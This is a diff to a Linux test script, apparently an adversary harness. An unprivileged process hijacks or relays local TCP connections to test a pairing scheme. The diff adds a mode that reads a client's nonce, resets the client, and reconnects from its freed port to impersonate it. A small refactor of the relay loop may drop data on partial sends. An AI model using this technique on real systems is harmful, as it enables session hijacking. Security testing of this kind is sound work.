@@ -1,6 +1,6 @@
 """A process without privileges that tries to become an end of a pair, or to stand between its ends. For Linux.
 
-    attacker.py twin|late|early|relay|reset 4|6 FIRST-PORT LAST-PORT
+    attacker.py twin|late|early|heir|relay|reset 4|6 FIRST-PORT LAST-PORT
 
 It reads a line at a time. When it has acted, it answers how many clients it has met and served so far:
 
@@ -22,10 +22,12 @@ What it rests on, all seen on Linux 6.18:
 - A connection in TIME_WAIT hides the older ones of the same addresses and ports from a new one that asks for them, and
   lets packets that open a connection through to the listener.
 - A socket with a TCP_MD5SIG key signs what it sends, and a socket without a key drops that.
+- A client that is reset still reports its port, although the system gives the port to whoever asks for it.
 
-None of this helps if the client is bound to all addresses: then nobody else has its port, and nobody is given it.
+If the client is bound to all addresses, no other socket has its port, or is given it, as long as the client lives.
 """
 
+import contextlib
 import ctypes
 import errno
 import os
@@ -235,6 +237,24 @@ class Reset(InTheMiddle):
         self.meets.close()
 
 
+class Heir(InTheMiddle):
+    """Meets the client, reads its nonce, resets it, and carries the nonce to the listener from the client's port."""
+
+    def before(self, port, client):
+        self.client_port = client[1]
+        InTheMiddle.before(self, port, client)
+
+    def serve(self):
+        nonce = self.meets.recv(16)
+        self.meets.close()
+        heir = open_socket(blocking=True)
+        self.used.append(heir)
+        heir.bind((LOOPBACK, self.client_port))
+        heir.connect(self.address)
+        heir.sendall(nonce)
+        self.met += 1
+
+
 class Relay(InTheMiddle):
     def serve(self):
         self.met += 1
@@ -247,17 +267,13 @@ class Relay(InTheMiddle):
 
 def carry(source, sink):
     try:
-        data = source.recv(65536)
-        while data:
-            sink.sendall(data)
-            data = source.recv(65536)
+        while sink.send(source.recv(65536)):
+            pass
     except OSError:
         pass
     for sock in (source, sink):
-        try:
+        with contextlib.suppress(OSError):
             sock.shutdown(socket.SHUT_RDWR)
-        except OSError:
-            pass
 
 
 class Late(InTheMiddle):
@@ -329,7 +345,7 @@ def main():
     os.setgroups([])
     os.setgid(NOBODY)
     os.setuid(NOBODY)
-    attacker = {"twin": Twin, "late": Late, "early": Early, "relay": Relay, "reset": Reset}[sys.argv[1]]()
+    attacker = {way.__name__.lower(): way for way in (Twin, Late, Early, Heir, Relay, Reset)}[sys.argv[1]]()
     for line in sys.stdin:
         command, *words = line.split()
         if command == "before":
